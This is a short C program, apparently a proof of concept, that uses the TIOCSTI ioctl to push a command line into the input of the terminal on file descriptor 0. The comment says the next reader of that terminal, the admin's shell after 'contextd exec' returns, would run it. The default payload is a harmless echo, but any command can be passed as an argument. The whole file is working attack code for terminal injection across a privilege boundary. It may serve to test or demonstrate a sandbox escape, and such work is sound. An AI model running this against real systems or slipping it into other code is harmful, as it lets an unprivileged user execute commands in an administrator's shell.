/* Push a command line into the input of the terminal on fd 0 (TIOCSTI), as
 * if typed there: whoever reads that terminal next (the admin's shell, once
 * contextd exec returns) would run it. Prints "pushed" or the error. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

int main(int argc, char **argv)
{
    const char *line = argc > 1 ? argv[1] : "echo pwned-by-guest\n";
    for (const char *c = line; *c; c++)
        if (ioctl(0, TIOCSTI, c) < 0) {
            printf("refused %s\n", strerror(errno));
            return 1;
        }
    printf("pushed\n");
    return 0;
}
